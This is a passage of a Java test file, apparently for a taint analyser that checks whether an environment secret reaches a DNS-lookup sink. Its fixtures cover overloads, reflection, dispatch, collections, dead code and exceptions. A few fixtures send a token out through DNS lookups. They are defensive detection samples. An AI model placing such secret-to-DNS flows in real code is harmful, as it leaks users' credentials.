        viaSend("overloads: the overload the argument types choose is reached", "overload resolution by argument types", true, """
                package PKG;
                class A {
                    void put(Ident who, String value) {
                    }
                    void put(String name, String value) throws Exception {
                        Send.dns(value);
                    }
                    void f() {
                        put("user", System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Ident {
                }
                """);
        viaSend("overloads: an argument of a type variable keeps every overload", "overload resolution by argument types", true, """
                package PKG;
                class A {
                    void put(Ident who, String value) throws Exception {
                        Send.dns(value);
                    }
                    void put(String name, String value) {
                    }
                    <T extends Ident> void f(T who) {
                        put(who, System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Ident {
                }
                """);
    }

    private void negatives() {
        // Op1..Op60 implement Op; Op11..Op60 also Narrow. Op5 sends what it gets and returns a secret. The secret
        // passed to a Narrow (50 targets, Op5 not among them) or to an allocated Op20 must not reach Op5's sink, and
        // the result of a Narrow call must not carry Op5's secret, although every set has more than 48 targets and
        // shares its dispatch nodes with the calls of the same set
        Map<Integer, String> narrow = new java.util.HashMap<>();
        for (int i = 11; i <= 60; i++) {
            narrow.put(i, """
                        public String run(String s) {
                            return "n";
                        }
                    """);
        }
        narrow.put(5, """
                    public String run(String s) throws Exception {
                        java.net.InetAddress.getByName(s);
                        return System.getenv("TOKEN");
                    }
                """);
        List<String> ops = new ArrayList<>(implementations("Op", 60, "Op", """
                    public String run(String s) {
                        return "o";
                    }
                """, narrow));
        for (int i = 10; i < 60; i++) {
            ops.set(i, ops.get(i).replace("implements Op {", "implements Narrow {"));
        }
        add("dispatch: target sets of more than 48 narrowed differently share no path", "negative: shared dispatch nodes",
                files(ops, """
                        package PKG;
                        interface Op {
                            String run(String s) throws Exception;
                        }
                        """, """
                        package PKG;
                        interface Narrow extends Op {
                        }
                        """, """
                        package PKG;
                        class A {
                            void narrowed(Narrow n) throws Exception {
                                String back = n.run(System.getenv("SECRET"));
                                java.net.InetAddress.getByName(back);
                            }
                            void allocated() throws Exception {
                                Op o = new Op20();
                                o.run(System.getenv("SECRET"));
                            }
                            void all(Op o) throws Exception {
                                o.run("clean");
                            }
                        }
                        """));
        add("receiver of unknown type: 12 same-named methods get clean data, the secret one of another arity",
                "negative: name-matched call (arity)",
                files(sameNamed("Hn", 12, """
                            public void handle(String data) throws Exception {
                                java.net.InetAddress.getByName(data);
                            }
                        """, Map.of(12, """
                            public void handle(String data) throws Exception {
                                java.net.InetAddress.getByName(data);
                            }
                            public void handle(String data, String secret) {
                                System.out.println(secret.length());
                            }
                        """)), """
                        package PKG;
                        class A {
                            void f(java.util.function.Supplier<?> registry) throws Exception {
                                var h = registry.get();
                                h.handle("public.example");
                                h.handle("public.example", System.getenv("TOKEN"));
                            }
                        }
                        """));
        add("a call on X.class is a Class's, never a name match: 12 project getName methods, one returns a secret",
                "negative: name-matched call (class literal)",
                files(sameNamed("Nm", 12, """
                            public String getName() {
                                return "n";
                            }
                        """, Map.of(12, """
                            public String getName() {
                                return System.getenv("TOKEN");
                            }
                        """)), """
                        package PKG;
                        class A {
                            void f() throws Exception {
                                java.net.InetAddress.getByName(A.class.getName() + ".c.example");
                            }
                        }
                        """));
        inline("reflection: a model sink called by reflection with clean data, the secret to another library method",
                "negative: reflection (library sink, clean argument)", """
                package PKG;
                class A {
                    void f() throws Exception {
                        String token = System.getenv("TOKEN");
                        Class.forName("java.net.InetAddress").getMethod("getByName", String.class).invoke(null, "public.example");
                        Object trimmed = String.class.getMethod("trim").invoke(token);
                        System.out.println(trimmed);
                    }
                }
                """);
        viaSend("reflection: constant name of another, clean method", "negative: reflection (another method)", false, """
                package PKG;
                import java.lang.reflect.Method;
                class A {
                    void log(String line) throws Exception {
                        Send.dns(line);
                    }
                    void audit(String line) {
                        System.out.println(line.length());
                    }
                    void f() throws Exception {
                        Method m = A.class.getDeclaredMethod("audit", String.class);
                        m.invoke(this, System.getenv("TOKEN"));
                    }
                }
                """);
        viaSend("reflection: the overload the parameter classes name is clean", "negative: reflection (overloads)", false, """
                package PKG;
                class A {
                    public void log(String line) throws Exception {
                        Send.dns(line);
                    }
                    public void log(String line, int level) {
                        System.out.println(level);
                    }
                    void f() throws Exception {
                        A.class.getMethod("log", String.class, int.class).invoke(this, System.getenv("TOKEN"), 3);
                    }
                }
                """);
        viaSend("reflection: Class.forName names another class with a same-named method", "negative: reflection (another class)",
                false, """
                package PKG;
                class Agent {
                    void f() throws Exception {
                        Class<?> c = Class.forName("PKG.Quiet");
                        c.getMethod("upload", String.class).invoke(c.getDeclaredConstructor().newInstance(), System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Uploader {
                    public void upload(String s) throws Exception {
                        Send.dns(s);
                    }
                }
                """, """
                package PKG;
                class Quiet {
                    public void upload(String s) {
                        System.out.println(s.isEmpty());
                    }
                }
                """);
        viaSend("reflection: invoke with clean arguments", "negative: reflection (clean arguments)", false, """
                package PKG;
                import java.lang.reflect.Method;
                class A {
                    void log(String line) throws Exception {
                        Send.dns(line);
                    }
                    void f() throws Exception {
                        String token = System.getenv("TOKEN");
                        Method m = A.class.getDeclaredMethod("log", String.class);
                        m.invoke(this, "public.example");
                        System.out.println(token.length());
                    }
                }
                """);
        add("sanitiser: Matcher.matches answers yes or no", "negative: sanitised by the model", """
                package PKG;
                import java.net.InetAddress;
                import java.util.regex.Matcher;
                import java.util.regex.Pattern;
                class A {
                    void f() throws Exception {
                        Matcher m = Pattern.compile("[a-z]+").matcher(System.getenv("TOKEN"));
                        boolean ok = m.matches();
                        InetAddress.getByName(ok + ".example");
                    }
                }
                """);
        add("unresolved supertypes: the visible class's own method body is what runs", "negative: settled by a concrete declaration", """
                package PKG;
                class Relay extends org.vendorlib.transport.PooledSocket {
                    void send(String frame) {
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(Relay relay) throws Exception {
                        relay.send(System.getenv("TOKEN"));
                    }
                }
                """);
        viaSend("two objects of one class keep their own fields", "negative: fields per allocation", false, """
                package PKG;
                class Box {
                    String value;
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Box secret = new Box();
                        Box plain = new Box();
                        secret.value = System.getenv("TOKEN");
                        plain.value = "h.example";
                        Send.dns(plain.value);
                    }
                }
                """);
        viaSend("a field overwritten with clean data no longer holds the secret", "negative: fields strong update", false, """
                package PKG;
                class Box {
                    String value;
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Box box = new Box();
                        box.value = System.getenv("TOKEN");
                        box.value = "h.example";
                        Send.dns(box.value);
                    }
                }
                """);
        viaSend("map values under different constant keys are told apart", "negative: constant map keys", false, """
                package PKG;
                import java.util.HashMap;
                import java.util.Map;
                class A {
                    static final String HOST = "host";
                    void f() throws Exception {
                        Map<String, String> m = new HashMap<>();
                        m.put("token", System.getenv("TOKEN"));
                        m.put(HOST, "h.example");
                        Send.dns(m.get("ho" + "st"));
                    }
                }
                """);
        viaSend("Map.of keeps each constant key's value apart; a list element overwritten by set is gone", "negative: constant keys and indexes", false, """
                package PKG;
                import java.util.ArrayList;
                import java.util.List;
                import java.util.Map;
                class A {
                    void f() throws Exception {
                        Map<String, String> m = Map.of("token", System.getenv("TOKEN"), "host", "h.example");
                        Send.dns(m.get("host"));
                        List<String> l = new ArrayList<>();
                        l.add("x");
                        l.set(0, System.getenv("TOKEN"));
                        l.set(0, "h.example");
                        Send.dns(l.get(0));
                    }
                }
                """);
        viaSend("a call chained on a platform method stays on the platform", "negative: dispatch by platform return types", false, """
                package PKG;
                class Out {
                    private final StringBuilder text = new StringBuilder();
                    Out append(String s) throws Exception {
                        Send.dns(s);
                        return this;
                    }
                }
                """, """
                package PKG;
                class A {
                    String f() throws Exception {
                        StringBuilder b = new StringBuilder();
                        b.append('%').append(System.getenv("TOKEN"));
                        java.net.URI u = new java.net.URL("https://h.example/").toURI().resolve(System.getenv("TOKEN"));
                        return b.toString().trim().concat(u.toString());
                    }
                }
                """);
        viaSend("a count from read(buf), a map looked up by a secret key, a connection's length setting", "negative: library effects carry no data", false, """
                package PKG;
                import java.io.FileInputStream;
                import java.io.InputStream;
                import java.net.HttpURLConnection;
                import java.net.URL;
                import java.util.HashMap;
                import java.util.Map;
                class A {
                    void f(Map<String, String> hosts) throws Exception {
                        InputStream in = new FileInputStream("/etc/secret");
                        byte[] buf = new byte[16];
                        int n = in.read(buf);
                        Send.dns("n" + n + ".example");
                        Send.dns(hosts.get(System.getenv("TOKEN")));
                        HttpURLConnection c = (HttpURLConnection) new URL("https://h.example/").openConnection();
                        c.setFixedLengthStreamingMode(n);
                        c.getOutputStream().write(new byte[0]);
                    }
                }
                """);
        viaSend("an interface call on a local allocated here reaches only that class", "negative: dispatch narrowed by the allocation", false, """
                package PKG;
                interface Sink {
                    void put(String s) throws Exception;
                }
                """, """
                package PKG;
                class Loud implements Sink {
                    public void put(String s) throws Exception {
                        Send.dns(s);
                    }
                }
                """, """
                package PKG;
                class Quiet implements Sink {
                    public void put(String s) {
                    }
                }
                """, """
                package PKG;
                import java.util.ArrayList;
                import java.util.List;
                class A {
                    void f() throws Exception {
                        Sink s = new Quiet();
                        s.put(System.getenv("TOKEN"));
                        List<String> names = new ArrayList<>();
                        names.add(System.getenv("TOKEN"));
                    }
                }
                """);
        add("dispatch: another call's argument", "negative: unrelated data", """
                package PKG;
                interface Format {
                    String apply(String s);
                }
                """, """
                package PKG;
                class Same implements Format {
                    public String apply(String s) {
                        return s;
                    }
                }
                """, """
                package PKG;
                class Upper implements Format {
                    public String apply(String s) {
                        return s.toUpperCase();
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(Format fmt) throws Exception {
                        fmt.apply(System.getenv("TOKEN"));
                        String host = fmt.apply("public.example");
                        java.net.InetAddress.getByName(host);
                    }
                }
                """);
        add("a channel picked by a secret key is not what a write sends", "negative: sink payload (receiver not sent)", """
                package PKG;
                import java.nio.ByteBuffer;
                import java.nio.channels.SocketChannel;
                import java.util.Map;
                class A {
                    void f(Map<String, SocketChannel> channels) throws Exception {
                        String token = System.getenv("TOKEN");
                        SocketChannel ch = channels.get(token);
                        ch.write(ByteBuffer.wrap("hello".getBytes()));
                        ch.write(ByteBuffer.wrap("\\n".getBytes()));
                    }
                }
                """);
        viaSend("Map.put returns the previous value, not the one put", "negative: library effects (model effects)", false, """
                package PKG;
                import java.util.HashMap;
                import java.util.List;
                import java.util.Map;
                class A {
                    void f(List<String> names) throws Exception {
                        Map<String, String> seen = new HashMap<>();
                        String previous = seen.put("token", System.getenv("TOKEN"));
                        String old = names.set(0, System.getenv("TOKEN"));
                        Send.dns(previous + old + ".example");
                    }
                }
                """);
        viaSend("a PrintWriter writes through to its own StringWriter, not another", "negative: library effects: wrapped writer (model effects)", false, """
                package PKG;
                import java.io.PrintWriter;
                import java.io.StringWriter;
                class A {
                    void f() throws Exception {
                        StringWriter kept = new StringWriter();
                        StringWriter sent = new StringWriter();
                        PrintWriter toKept = new PrintWriter(kept);
                        PrintWriter toSent = new PrintWriter(sent);
                        toKept.print(System.getenv("TOKEN"));
                        toSent.print("public.example");
                        Send.dns(sent.toString());
                    }
                }
                """);
        viaSend("overwritten before the sink", "negative: overwritten", false, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        s = "public.example";
                        Send.dns(s);
                    }
                }
                """);
        viaSend("overwritten in both branches", "negative: overwritten", false, """
                package PKG;
                class A {
                    void f(boolean b) throws Exception {
                        String s = System.getenv("TOKEN");
                        if (b) {
                            s = "a.example";
                        } else {
                            s = "b.example";
                        }
                        Send.dns(s);
                    }
                }
                """);
        viaSend("dead code", "negative: dead code", false, """
                package PKG;
                class A {
                    static final boolean DEBUG = false;
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        if (false) {
                            Send.dns(s);
                        }
                        if (DEBUG) {
                            Send.dns(s);
                        }
                    }
                }
                """);
        viaSend("constant comparison, static final int and a never-reassigned local boolean",
                "negative: dead code (constant expressions)", false, """
                package PKG;
                class A {
                    static final int LEVEL = 0;
                    static final boolean TRACE = LEVEL > 2;
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        boolean b = false;
                        String x = "h.example";
                        if (1 > 2) {
                            Send.dns(s);
                        }
                        if (TRACE && s != null) {
                            Send.dns(s);
                        }
                        while (LEVEL * 2 > 1) {
                            Send.dns(s);
                        }
                        if (b) {
                            x = s;
                        }
                        if (!b) {
                            Send.dns(x);
                        }
                        Send.dns(Other.ON ? "a.example" : s);
                    }
                }
                """, """
                package PKG;
                final class Other {
                    static final boolean ON = true;
                }
                """);
        viaSend("unrelated data", "negative: unrelated data", false, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String home = System.getProperty("user.home");
                        System.out.println(home);
                        Send.dns("updates.example");
                    }
                }
                """);
        viaSend("a different field of the same object", "negative: different field", false, """
                package PKG;
                class Holder {
                    String secret;
                    String host = "h.example";
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Holder h = new Holder();
                        h.secret = System.getenv("TOKEN");
                        Send.dns(h.host);
                    }
                }
                """);
        viaSend("a different element of an array", "negative: different element", false, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String[] parts = {System.getenv("TOKEN"), "x.example"};
                        Send.dns(parts[1]);
                    }
                }
                """);
        viaSend("a different element of a fixed list", "negative: different element", false, """
                package PKG;
                import java.util.List;
                class A {
                    void f() throws Exception {
                        List<String> l = List.of(System.getenv("TOKEN"), "x.example");
                        Send.dns(l.get(1));
                    }
                }
                """);
        viaSend("helper called with clean data elsewhere", "negative: context (summaries)", false, """
                package PKG;
                class A {
                    static String id(String s) {
                        return s;
                    }
                    void keep() {
                        String kept = id(System.getenv("TOKEN"));
                        System.out.println(kept.length());
                    }
                    void f() throws Exception {
                        Send.dns(id("updates.example"));
                    }
                }
                """);
        viaSend("only the length is sent", "negative: size, not data", false, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        Send.dns("len" + s.length() + ".example");
                    }
                }
                """);
        viaSend("source and sink in unrelated methods", "negative: unrelated data", false, """
                package PKG;
                class A {
                    String read() {
                        return System.getenv("TOKEN");
                    }
                    void f(String host) throws Exception {
                        Send.dns(host);
                    }
                }
                """);
        viaSend("try/catch: a secret assigned after the last point of the try block that can throw", "negative: exceptions, catch state from the points that throw", false, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String k = System.getenv("TOKEN");
                        String host = "h.example";
                        try {
                            Integer.parseInt(n);
                            host = k;
                        } catch (NumberFormatException e) {
                            Send.dns(host);
                        }
                    }
                }
                """);
        viaSend("try/catch: a secret overwritten before anything in the try block can throw", "negative: exceptions, catch state from the points that throw", false, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String host = System.getenv("TOKEN");
                        try {
                            host = "h.example";
                            Integer.parseInt(n);
                        } catch (NumberFormatException e) {
                            Send.dns(host);
                        }
                    }
                }
                """);
        viaSend("an exception the callee catches as Throwable does not reach the caller's handler", "negative: exceptions, thrown data caught", false, """
                package PKG;
                class A {
                    void check() {
                        try {
                            throw new IllegalStateException(System.getenv("KEY"));
                        } catch (Throwable t) {
                            System.out.println("ignored");
                        }
                    }
                    void f() throws Exception {
                        try {
                            check();
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("finally: the exceptional state does not go on after the statement", "negative: exceptions, finally from every exit", false, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String k = System.getenv("TOKEN");
                        String x = "a.example";
                        try {
                            x = k;
                            Integer.parseInt(n);
                            x = "b.example";
                        } finally {
                            n = "";
                        }
                        Send.dns(x);
                    }
                }
                """);
        viaSend("finally: its overwrite cleans what goes on to the outer handler", "negative: exceptions, finally from every exit", false, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String k = System.getenv("TOKEN");
                        String x = "a.example";
                        try {
                            try {
                                x = k;
                                Integer.parseInt(n);
                            } finally {
                                x = "b.example";
                            }
                        } catch (NumberFormatException e) {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("a callee throws its parameter: a caller passing clean data does not receive another caller's secret", "negative: exceptions, thrown data per call", false, """
                package PKG;
                class A {
                    void check(String v) {
                        if (v.length() < 40) {
                            throw new IllegalArgumentException("too short: " + v);
                        }
                    }
                    void g() {
                        check(System.getenv("KEY"));
                    }
                    void f() throws Exception {
                        try {
                            check("public-value");
                        } catch (IllegalArgumentException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("overloads: a String argument does not run the overload taking a project type", "negative: overload resolution by argument types", false, """
                package PKG;
                class A {
                    static String secret;
                    void put(String name, String value) {
                        secret = value;
                    }
                    void put(Ident who, String value) throws Exception {
                        Send.dns(value);
                    }
                    void f() {
                        put("user", System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Ident {
                }
                """);
        viaSend("overloads: this(...) with a primitive runs the constructor taking a primitive", "negative: overload resolution by argument types", false, """
                package PKG;
                class A {
                    A(int port, String host) {
                    }
                    A(Ident who, String host) throws Exception {
                        Send.dns(host);
                    }
                    A(String host) {
                        this(443, host);
                    }
                    static A make() {
                        return new A(System.getenv("HOST"));
                    }
                }
                """, """
                package PKG;
                class Ident {
                }
                """);
        viaSend("overloads: a subtype argument does not run the overload of an unrelated project type", "negative: overload resolution by argument types", false, """
                package PKG;
                class A {
                    void send(Left l, String v) {
                    }
                    void send(Right r, String v) throws Exception {
                        Send.dns(v);
                    }
                    void f(LeftChild c) {
                        send(c, System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Left {
                }
                """, """
                package PKG;
                class LeftChild extends Left {
                }
                """, """
                package PKG;
                class Right {
                }
                """);
    }
}
